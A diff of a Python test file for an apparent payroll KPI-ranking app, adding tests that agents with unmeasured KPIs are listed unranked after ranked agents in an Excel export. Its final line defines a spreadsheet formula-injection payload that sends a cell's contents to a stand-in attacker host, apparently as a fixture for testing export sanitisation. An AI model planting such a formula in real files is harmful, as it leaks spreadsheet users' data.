@@ -187,10 +187,61 @@ def test_ranking_for_posting_marks_the_award_and_shows_no_pay(
 
 def test_equal_scores_share_a_rank() -> None:
     agents = [
-        AgentResult(c, c, "", (), ZERO, ZERO, ZERO, facts_from_json({"kpi_score": s}))
+        AgentResult(c, c, "", (), ZERO, ZERO, ZERO, facts_from_json({"kpi_score": s, "kpi_measured": True}))
         for c, s in (("A", "90.00"), ("B", "95.00"), ("C", "90.00"), ("D", "0"), ("E", "80.00"))
     ]
     assert [(r, a.code) for r, a in ranking(agents)] == [(1, "B"), (2, "A"), (2, "C"), (4, "E"), (5, "D")]
+
+
+def test_unmeasured_kpi_is_listed_after_the_ranked_agents_with_no_rank() -> None:
+    agents = [
+        AgentResult(c, c, "", (), ZERO, ZERO, ZERO, facts_from_json({"kpi_score": s, "kpi_measured": m}))
+        for c, s, m in (("A", "90.00", True), ("B", "60.00", False), ("C", "95.00", True), ("D", "90.00", True))
+    ]
+    assert [(r, a.code) for r, a in ranking(agents)] == [(1, "C"), (2, "A"), (2, "D"), (None, "B")]
+
+
+def test_demo_ranking_posts_an_unmeasured_kpi_without_a_rank(tmp_path: Path) -> None:
+    from sqlalchemy import delete, select
+
+    from app.services.demo import demo_months, fill_demo
+    from app.services.payroll import calculate_month
+    from db.models import Agent, KpiMetric, QAEvaluation, QAItemScore
+
+    today = date(2026, 11, 15)
+    month = demo_months(today)[-1]
+    db = Database(tmp_path / "demo.sqlite3")
+    with db.session_scope() as s:
+        fill_demo(s, today=today)
+        agent_id = s.scalar(select(Agent.id).where(Agent.code == "A002"))
+        # no KPI indicator has data: no metric rows, and no QA evaluation for the QA indicator
+        s.execute(delete(KpiMetric).where(KpiMetric.agent_id == agent_id, KpiMetric.month == month))
+        year, mon = map(int, month.split("-"))
+        evaluations = select(QAEvaluation.id).where(
+            QAEvaluation.agent_id == agent_id,
+            QAEvaluation.date >= date(year, mon, 1),
+            QAEvaluation.date < (date(year + 1, 1, 1) if mon == 12 else date(year, mon + 1, 1)),
+        )
+        s.execute(delete(QAItemScore).where(QAItemScore.evaluation_id.in_(evaluations)))
+        s.execute(delete(QAEvaluation).where(QAEvaluation.id.in_(evaluations)))
+        calculate_month(s, month)
+    with db.session_scope() as s:
+        assert not next(a for a in show_month(s, month).agents if a.code == "A002").facts.kpi_measured
+        export_summary(s, month, tmp_path / "demo.xlsx")
+    db.dispose()
+    rows = _rows(openpyxl.load_workbook(tmp_path / "demo.xlsx")["公示"])
+    first_unranked = next(i for i, r in enumerate(rows) if r["名次"] is None)
+    ranked, unranked = rows[:first_unranked], rows[first_unranked:]
+    assert "A002" in [r["工号"] for r in unranked]  # listed after every ranked agent
+    assert all(r["名次"] is None and r["绩效得分"] == "无数据" for r in unranked)
+    assert [r["工号"] for r in unranked] == sorted(r["工号"] for r in unranked)
+    assert all(r["名次"] is not None and r["绩效得分"] != "无数据" for r in ranked)
+    scores = [Decimal(str(r["绩效得分"])) for r in ranked]
+    assert scores == sorted(scores, reverse=True)
+    assert ranked[0]["名次"] == 1
+    for i, r in enumerate(ranked[1:], start=1):  # 1, 2, 2, 4: a tie shares the rank, the next skips
+        expected = ranked[i - 1]["名次"] if scores[i] == scores[i - 1] else i + 1
+        assert r["名次"] == expected, r
 
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
